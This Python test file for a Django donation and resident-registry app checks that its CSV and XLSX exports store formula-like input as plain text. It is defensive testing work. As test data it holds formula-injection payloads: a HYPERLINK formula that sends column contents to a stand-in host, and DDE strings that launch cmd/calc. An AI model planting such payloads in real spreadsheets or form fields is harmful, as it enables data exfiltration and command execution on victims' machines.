"""Exports that cannot execute: text someone typed as a formula reaches every CSV and XLSX phocap writes as the text
it is — the anonymous public list, the registry export, the recipients report, the problems workbook."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import pytest
from django.test import Client
from openpyxl import load_workbook

from phocap.core.spreadsheets import csv_line, xlsx_bytes
from phocap.fundraising.services import donation_record, donor_find_or_create
from phocap.registry.exports import export_residents
from phocap.registry.importing import error_workbook, import_residents
from phocap.registry.models import Resident
from phocap.registry.services import resident_correct
from phocap.reports import documents
from tests.allocation.test_rounds import registry  # noqa: F401 - fixtures
from tests.handover.test_handover import approved, event  # noqa: F401
from tests.onboarding.test_onboarding import handed  # noqa: F401

pytestmark = pytest.mark.django_db
LINK = '=HYPERLINK("http://x.example/?"&B:B,"Xem")'
CALC = "+cmd|' /C calc'!A0"
ATTACKS = [LINK, CALC, "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _no_formula(data: bytes) -> None:
    """No sheet of the workbook holds a formula element, and the attacks read back as text."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                xml = book.read(name)
                assert b"<f>" not in xml, name
                assert b"<f " not in xml, name


def _texts(data: bytes) -> set[str]:
    sheet = load_workbook(io.BytesIO(data)).active
    cells = (c for row in sheet.iter_rows() for c in row)
    return {c.value.replace("\r", "\n") for c in cells if c.data_type == "s" and isinstance(c.value, str)}


def test_the_helpers_write_text_starting_like_a_formula_as_text():
    book = xlsx_bytes([["Tên"], *([a] for a in ATTACKS), [-5], ["Nguyễn Văn A"]])
    _no_formula(book)
    assert {a.replace("\r", "\n") for a in ATTACKS} <= _texts(book)  # XML reads a carriage return as a newline
    for attack in ATTACKS:
        assert csv_line([attack]).lstrip('"').startswith("'"), attack
    assert csv_line(["Nguyễn Văn A", -5, "0912 345 678"]) == "Nguyễn Văn A,-5,0912 345 678\r\n"


def test_the_anonymous_public_list_cannot_run_a_donors_name(programme, user):
    officer = user("mttq")
    for n, name in enumerate([LINK, CALC]):
        donor = donor_find_or_create(actor=officer, programme=programme, kind="enterprise", name=name)
        donation_record(
            actor=officer,
            programme=programme,
            channel="cash",
            donor=donor,
            amount=1_000_000 + n,
            received_on=dt.date(2023, 9, 10),
            collection_point=programme.collection_points.get(key="tinh"),
            cash_receipt_number=f"PT-F{n}",
        )
    public = Client()
    book = public.get(f"/cong-khai/{programme.code}/danh-sach.xlsx").content
    _no_formula(book)
    assert {LINK, CALC} <= _texts(book)
    text = b"".join(public.get(f"/cong-khai/{programme.code}/danh-sach.csv").streaming_content).decode("utf-8-sig")
    assert f"'{CALC}" in text
    assert "\n+cmd" not in text
    assert ",+cmd" not in text
    assert '"=HYPERLINK' not in text


def test_the_registry_export_and_the_problems_workbook_cannot_run_a_village(programme, user):
    data = f"Họ và tên,Năm sinh,Giới tính,Thôn\nHà Văn Phúc,1970,Nam,{CALC}\nHà Thị Vui,2020,Nữ,{CALC}\n".encode()
    report = import_residents(
        actor=user("quanly"), programme=programme, data=data, filename="ds.csv", commune_code="01870"
    )
    assert Resident.objects.get(full_name="Hà Văn Phúc").village == CALC
    exported = export_residents(actor=user("quanly"), programme=programme, fmt="csv").decode()
    assert f"'{CALC}" in exported
    assert "," + CALC not in exported
    book = export_residents(actor=user("quanly"), programme=programme, fmt="xlsx")
    _no_formula(book)
    assert CALC in _texts(book)
    problems = error_workbook(data, "ds.csv", report)  # the rejected child's row, as the officer typed it
    _no_formula(problems)
    assert CALC in _texts(problems)


def test_the_recipients_report_cannot_run_a_village(handed, user, programme):  # noqa: F811
    officer = user("xa-giaohieu")
    person = Resident.objects.get(pk=handed[0])
    resident_correct(actor=officer, resident=person, values={"village": LINK})
    made = documents.export(actor=officer, programme=programme, kind="nguoi-nhan", fmt="xlsx", on=dt.date(2023, 12, 5))
    _no_formula(made.data)
    assert LINK in _texts(made.data)
